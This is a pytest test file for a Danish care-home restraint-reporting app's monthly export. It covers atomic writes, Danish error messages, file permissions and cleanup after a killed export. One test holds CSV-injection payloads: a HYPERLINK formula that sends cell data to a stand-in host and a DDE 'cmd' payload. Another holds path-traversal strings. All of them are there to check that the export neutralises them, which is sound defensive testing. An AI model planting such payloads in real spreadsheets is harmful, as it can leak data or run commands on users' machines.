"""The monthly export is all or nothing and safe to open (issue 9, points 2 and 4): a renderer's
failure is a Danish refusal naming the form and the resident; look-alike care-home names get
their own files; the CSV holds no formulas; files are private; a killed export leaves nothing
behind that the next export does not remove; and every refusal leaves the target as it was."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import logging
import os
import shutil
import signal
import stat
import subprocess
import sys
import textwrap
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from tilsyn.domain.errors import DomainError
from tilsyn.domain.force import EpisodeInput, LeaderInput, StaffInput
from tilsyn.domain.people import CareHomeInput, ResidentInput
from tilsyn.messages import text_for
from tilsyn.services import exports as exports_module
from tilsyn.services import staging as staging_module
from tilsyn.services.app import close_app, open_app
from tilsyn.services.audit import AuditService
from tilsyn.services.care_homes import CareHomeService
from tilsyn.services.exports import ExportService
from tilsyn.services.force import ForceService
from tilsyn.services.residents import ResidentService
from tilsyn.services.users import UserInput, UserService

from pdf_support import PW

CPH = ZoneInfo("Europe/Copenhagen")
POSIX = os.name == "posix"
BOEGELUND = ("Plejecenter Bøgelund", "Plejecenter Boegelund")


def snapshot(root: Path) -> dict[str, bytes | None]:
    """Everything below ``root`` (hidden entries too): path -> bytes, None for a folder."""
    if not root.exists():
        return {}
    return {p.relative_to(root).as_posix(): (None if p.is_dir() else p.read_bytes()) for p in sorted(root.rglob("*"))}


def _send_acute(ctx, clock, resident_id: str, day: int, home_name: str) -> str:
    """Register one acute episode as the staff member sten and send it as the leader lis."""
    users, svc = UserService(ctx), ForceService(ctx)
    users.login("sten", PW)
    start = dt.datetime(2026, 3, day, 14, 0, tzinfo=CPH)
    clock["now"] = start.astimezone(dt.timezone.utc) + dt.timedelta(hours=2)
    form_id = svc.register_episode(EpisodeInput(
        resident_id, "126_holding", start, start + dt.timedelta(minutes=5), location="Stuen", purpose="Beskytte",
        description="Slog ud", avoidance="Afledning", least_intrusive="Kort fastholdelse", narrative="Faldt til ro.",
        staff=(StaffInput("Sten Stab", home_name, "SSA", True),)), as_acute=True).form_id
    svc.sign_section(form_id, 2, PW)
    users.login("lis", PW)
    svc.save_leader_section(form_id, LeaderInput(
        necessity="Nødvendigt.", reflection="Drøftet.", discussed_in_staff_group=False, action_plan_exists=False,
        leader_name="Lis Leder", assessed_on=dt.date(2026, 3, 31)))
    svc.sign_section(form_id, 3, PW)
    svc.send_to_authority(form_id)
    return form_id


@pytest.fixture(scope="module")
def three_homes_file(world_file, tmp_path_factory):
    """The world plus two care homes whose names reduce to the same slug, each with a sent acute
    record in March 2026: the export has three care homes, Bøgelund third."""
    import argon2

    from tilsyn.services import users as users_module

    saved = users_module._hasher
    users_module._hasher = argon2.PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
    src, ids = world_file
    path = tmp_path_factory.mktemp("three") / "three.sqlite"
    shutil.copy(src, path)
    clock = {"now": dt.datetime(2026, 3, 20, 8, 0, tzinfo=dt.timezone.utc)}
    opened = open_app(str(path), clock=lambda: clock["now"], actor=None)
    ctx = opened.context
    try:
        users = UserService(ctx)
        users.login("admin", PW)
        homes = [CareHomeService(ctx).create_care_home(CareHomeInput(name)).id for name in BOEGELUND]
        users.create_user(UserInput("sten", "Sten Stab", "staff", "SSA", tuple(homes)), PW)
        users.create_user(UserInput("lis", "Lis Leder", "leader", "Centerleder", tuple(homes)), PW)
        res = ResidentService(ctx)
        karl = res.save(None, ResidentInput("040440-1234", "Karl Bøg", homes[0])).id
        kirsten = res.save(None, ResidentInput("050550-1234", "Kirsten Boeg", homes[1])).id
        forms = [_send_acute(ctx, clock, karl, 21, BOEGELUND[0]), _send_acute(ctx, clock, kirsten, 22, BOEGELUND[1])]
        users.logout()
    finally:
        close_app(ctx)
        users_module._hasher = saved
    return path, {**ids, "boegelund_homes": homes, "boegelund_forms": forms}


@pytest.fixture
def three(three_homes_file, tmp_path):
    src, ids = three_homes_file
    path = tmp_path / "three.sqlite"
    shutil.copy(src, path)
    opened = open_app(str(path), clock=lambda: dt.datetime(2026, 4, 2, 12, 0, tzinfo=dt.timezone.utc), actor=None)
    UserService(opened.context).login("sofie", PW)
    yield {**ids, "ctx": opened.context, "path": path}
    close_app(opened.context)


# -- point 4: file names unique per care home -------------------------------------------------------


def test_look_alike_care_home_names_get_their_own_folders_and_batches(three, tmp_path):
    result = ExportService(three["ctx"]).export_month("2026-03", out_dir=tmp_path / "ud")
    bog, boe = three["boegelund_homes"]
    assert result.homes == ("Bakkegården", "Plejecenter Boegelund", "Plejecenter Bøgelund")
    names = sorted(p.name for p in result.batch_pdfs)
    assert names == sorted([f"2026-03_bakkegaarden-{three['homes'][0][:8]}_samlet.pdf",
                            f"2026-03_plejecenter-boegelund-{bog[:8]}_samlet.pdf",
                            f"2026-03_plejecenter-boegelund-{boe[:8]}_samlet.pdf"])
    assert len({p.parent for p in result.form_pdfs}) == 3
    # 3 batches, 4 PDFs, 4 JSON files, the index CSV and the receipt.
    assert result.forms == 4 and len(result.files) == 3 + 4 + 4 + 1 + 1
    assert all(p.is_file() for p in result.files)


def test_a_name_clash_is_refused_before_anything_is_written(three, tmp_path, monkeypatch):
    out = tmp_path / "ud"
    ExportService(three["ctx"]).export_month("2026-03", out_dir=out)  # an earlier export
    before = snapshot(out)
    head = AuditService(three["ctx"]).head()
    # As the export was before: names from the slug alone.
    monkeypatch.setattr(exports_module, "home_folder", lambda name, home_id: exports_module.slug(name))
    with pytest.raises(DomainError) as exc:
        ExportService(three["ctx"]).export_month("2026-03", out_dir=out)
    assert exc.value.code == "export_name_clash"
    assert text_for(exc.value).startswith("To filer i udtrækket ville få samme navn (2026-03_plejecenter-boegelund_"
                                          "samlet.pdf: Plejecenter Bøgelund og Plejecenter Boegelund).")
    assert snapshot(out) == before and AuditService(three["ctx"]).head() == head


# -- point 2: a failing renderer ------------------------------------------------------------------


def _fail_for(monkeypatch, resident: str):
    """Make the form renderer raise a reportlab LayoutError for one resident's form."""
    from reportlab.platypus.doctemplate import LayoutError

    real = exports_module.render_form

    def render(data):
        if data.name == resident:
            raise LayoutError("Flowable <Table@0x7F00DEADBEEF 5 rows x 5 cols> too large on page 2")
        return real(data)

    monkeypatch.setattr(exports_module, "render_form", render)


def test_a_failing_renderer_in_the_third_care_home_writes_nothing_and_names_form_and_resident(
        three, tmp_path, monkeypatch, caplog):
    out = tmp_path / "ud"
    out.mkdir()
    (out / "egen-fil.txt").write_text("brugerens egen fil")
    before = snapshot(out)
    head = AuditService(three["ctx"]).head()
    _fail_for(monkeypatch, "Karl Bøg")  # Plejecenter Bøgelund, exported third
    steps = []
    with caplog.at_level(logging.ERROR, logger="tilsyn.services.exports"):
        with pytest.raises(DomainError) as exc:
            ExportService(three["ctx"]).export_month("2026-03", out_dir=out, progress=lambda d, t: steps.append(d))
    assert max(steps) >= 5  # the first two care homes were rendered before it failed
    err = exc.value
    assert err.code == "export_render_failed"
    assert (err.params["resident"], err.params["cpr"], err.params["month"], err.params["layout"]) == (
        "Karl Bøg", "040440-xxxx", "2026-03", "skema1-2010")
    text = text_for(err)
    assert text == ("Den akutte registrering for Karl Bøg (040440-xxxx), marts 2026, kunne ikke dannes som PDF i "
                    "skabelonen »Servicestyrelsens skema 1 (2010)«. Udtrækket er ikke gemt, og ingen filer er skrevet. "
                    "Prøv at vælge en anden skabelon.")
    assert "Flowable" not in text and "0404401234" not in str(err) and "040440-1234" not in str(err)
    # Nothing written, nothing staged, nothing audited; the detail is in the log for support.
    assert snapshot(out) == before
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tilsyn")]
    assert AuditService(three["ctx"]).head() == head
    (record,) = [r for r in caplog.records if r.name == "tilsyn.services.exports"]
    assert record.exc_info and "too large on page 2" in str(record.exc_info[1])


def test_a_failing_renderer_into_a_new_folder_leaves_no_folder(three, tmp_path, monkeypatch):
    _fail_for(monkeypatch, "Jens Ærø Hansen")
    with pytest.raises(DomainError) as exc:
        ExportService(three["ctx"]).export_month("2026-03", out_dir=tmp_path / "ny" / "mappe", layout="skema1-2010")
    assert exc.value.code == "export_render_failed" and exc.value.params["what"] == "Månedsskemaet"
    assert exc.value.params["layout"] == "skema1-2010"
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("three.sqlite")) == []


def test_a_failing_batch_renderer_is_refused_in_danish(three, tmp_path, monkeypatch):
    def broken(cover, reports):
        raise ValueError("cover broke")

    monkeypatch.setattr(exports_module, "render_batch", broken)
    with pytest.raises(DomainError) as exc:
        ExportService(three["ctx"]).export_month("2026-03", out_dir=tmp_path / "ud")
    assert text_for(exc.value) == ("Den samlede PDF for Bakkegården, marts 2026, kunne ikke dannes. "
                                   "Udtrækket er ikke gemt, og ingen filer er skrevet.")
    assert not (tmp_path / "ud").exists()


def test_form_pdf_turns_a_renderer_failure_into_a_danish_refusal(three, monkeypatch):
    _fail_for(monkeypatch, "Jens Ærø Hansen")
    with pytest.raises(DomainError) as exc:
        ExportService(three["ctx"]).form_pdf(three["form"])
    assert exc.value.code == "render_failed"
    assert text_for(exc.value) == (
        "Månedsskemaet for Jens Ærø Hansen (010130-xxxx), marts 2026, kunne ikke dannes som PDF i skabelonen "
        "»Vejle Kommunes månedsskema (2011)«. Prøv at vælge en anden skabelon.")


def test_unchanged_after_a_failed_commit_of_the_audit(three, tmp_path, monkeypatch):
    """The files are taken back when the export's audit entries cannot be committed."""
    out = tmp_path / "ud"
    ExportService(three["ctx"]).export_month("2026-03", out_dir=out)
    before = snapshot(out)
    from tilsyn.store.uow import SqlUnitOfWork

    def fail(self):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(SqlUnitOfWork, "commit", fail)
    with pytest.raises(DomainError) as exc:
        ExportService(three["ctx"]).export_month("2026-03", out_dir=out, layout="skema1-2010")
    assert exc.value.code == "export_out_unwritable"
    assert snapshot(out) == before


# -- point 4: CSV, permissions, staging --------------------------------------------------------------


def doc_is(path, name: str) -> bool:
    return json.loads(path.read_text(encoding="utf-8"))["resident"]["name"] == name


def test_csv_cells_that_would_be_formulas_are_neutralised(three, tmp_path):
    ctx = three["ctx"]
    users = UserService(ctx)
    users.login("admin", PW)
    res = ResidentService(ctx)
    jens = res.get(three["jens"])
    hostile = '=HYPERLINK("http://x.example/?"&A1;"Jens")'
    res.save(jens.id, ResidentInput(jens.cpr, hostile, three["homes"][0], contact_person="@SUM(1+1)*cmd|' /C calc'!A0"))
    users.login("sofie", PW)
    result = ExportService(ctx).export_month("2026-03", out_dir=tmp_path / "ud")
    raw = result.csv_file.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";"))
    assert all(len(r) == len(rows[0]) for r in rows)
    names = [r[2] for r in rows[1:]]
    assert "'" + hostile in names
    assert not any(cell and cell[0] in "=+-@\t\r" for r in rows for cell in r)
    # The JSON keeps the data as it is, never neutralised: a signed form carries section 1 as it was
    # signed (issue 10), so here the name from before the rename, without a leading quote.
    doc = next(json.loads(p.read_text(encoding="utf-8")) for p in result.json_files
               if "maanedsskema" in p.name and doc_is(p, jens.name))
    assert doc["resident"]["name"] == jens.name


@pytest.mark.skipif(not POSIX, reason="POSIX permissions")
def test_exported_files_are_0600_and_folders_0700(three, tmp_path):
    os.umask(0o022)
    out = tmp_path / "a" / "ud"
    result = ExportService(three["ctx"]).export_month("2026-03", out_dir=out)
    for path in result.files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    for folder in {p.parent for p in result.form_pdfs} | {out, out.parent}:
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    # Into an existing folder as well (the files of the earlier export are replaced).
    again = ExportService(three["ctx"]).export_month("2026-03", out_dir=out, layout="skema1-2010")
    assert {stat.S_IMODE(p.stat().st_mode) for p in again.files} == {0o600}


def test_a_staging_folder_left_by_a_killed_export_is_removed_by_the_next_export(three, tmp_path):
    out = tmp_path / "ud"
    out.mkdir()
    # What a kill -9 left behind: this version's staging folder of a process that is gone, and
    # the folder earlier versions used.
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    gone = out / f".tilsyn-staging-{int(dead.stdout)}-abc123"
    (gone / "t").mkdir(parents=True)
    (gone / "t" / "x.json").write_text('{"cpr": "010130-1234"}')
    old = out / ".tilsyn-eksport-2026-02.tmp"
    old.mkdir()
    (old / "y.json").write_text('{"cpr": "010130-1234"}')
    beside = tmp_path / f".tilsyn-staging-{int(dead.stdout)}-def456"
    beside.mkdir()
    # Someone else's running export (this test's parent process stands in for it) is left alone.
    running = out / f".tilsyn-staging-{os.getppid()}-ghi789"
    running.mkdir()
    ExportService(three["ctx"]).export_month("2026-03", out_dir=out)
    assert not gone.exists() and not old.exists() and not beside.exists()
    assert running.exists()


def test_clean_staging_at_start_of_the_reports_page_helper(three, tmp_path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    gone = tmp_path / "ud" / f".tilsyn-staging-{int(dead.stdout)}-abc123"
    gone.mkdir(parents=True)
    assert ExportService(three["ctx"]).clean_staging(tmp_path / "ud") == [gone]
    assert not gone.exists()


@pytest.mark.slow
@pytest.mark.skipif(not POSIX, reason="kill -9")
def test_kill_9_during_an_export_leaves_staging_that_the_next_export_removes(three, tmp_path):
    out = tmp_path / "ud"
    close_app(three["ctx"])
    script = textwrap.dedent(f"""
        import datetime as dt, os, signal
        from tilsyn.services.app import open_app
        from tilsyn.services.exports import ExportService
        from tilsyn.services.users import UserService
        opened = open_app({str(three['path'])!r}, actor=None,
                          clock=lambda: dt.datetime(2026, 4, 2, 12, 0, tzinfo=dt.timezone.utc))
        UserService(opened.context).login("sofie", {PW!r})

        def progress(done, total):
            if done == 2:  # two forms are staged, with their JSON (full CPR numbers)
                os.kill(os.getpid(), signal.SIGKILL)

        ExportService(opened.context).export_month("2026-03", out_dir={str(out)!r}, progress=progress)
        """)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, env=env)
    assert proc.returncode == -signal.SIGKILL, proc.stderr
    left = [p for p in tmp_path.iterdir() if p.name.startswith(".tilsyn-staging-")]
    assert len(left) == 1 and stat.S_IMODE(left[0].stat().st_mode) == 0o700
    assert any(p.suffix == ".json" for p in left[0].rglob("*"))  # personal data, private, not in the target
    assert not out.exists()

    opened = open_app(str(three["path"]), actor=None, clock=lambda: dt.datetime(2026, 4, 2, 12, tzinfo=dt.timezone.utc))
    try:
        UserService(opened.context).login("sofie", PW)
        ExportService(opened.context).export_month("2026-03", out_dir=out)
    finally:
        close_app(opened.context)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tilsyn-staging-")]
    assert out.is_dir()


def test_staging_rejects_paths_outside_the_target(tmp_path):
    with staging_module.Staging(tmp_path / "ud") as st:
        for bad in ("../x", "/etc/x", "a/../../x", ""):
            with pytest.raises(ValueError):
                st.write(bad, b"x")
    assert list(tmp_path.iterdir()) == []


def test_a_failed_rename_into_an_existing_folder_puts_everything_back(tmp_path, monkeypatch):
    out = tmp_path / "ud"
    (out / "sub").mkdir(parents=True)
    (out / "a.txt").write_bytes(b"old a")
    before = snapshot(out)
    real = os.replace
    calls = []

    def flaky(src, dst):
        calls.append(dst)
        if len(calls) == 4:  # midway: a kept file and a moved file are behind us
            raise OSError(5, "Input/output error")
        return real(src, dst)

    with staging_module.Staging(out) as st:
        st.write("a.txt", b"new a")
        st.write("sub/b.txt", b"b")
        st.write("new/c.txt", b"c")
        monkeypatch.setattr(staging_module.os, "replace", flaky)
        with pytest.raises(OSError):
            st.publish()
        monkeypatch.setattr(staging_module.os, "replace", real)
    assert snapshot(out) == before
    assert not [p for p in out.iterdir() if p.name.startswith(".tilsyn")]
